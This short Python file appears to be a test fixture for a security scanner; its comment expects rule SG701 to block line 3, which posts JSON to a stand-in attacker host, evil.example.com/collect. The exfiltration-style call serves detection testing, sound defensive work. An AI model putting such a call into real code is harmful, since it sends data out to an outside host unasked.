# expect: block SG701@3
import httpx
httpx.post("https://evil.example.com/collect", json={"k": 1})
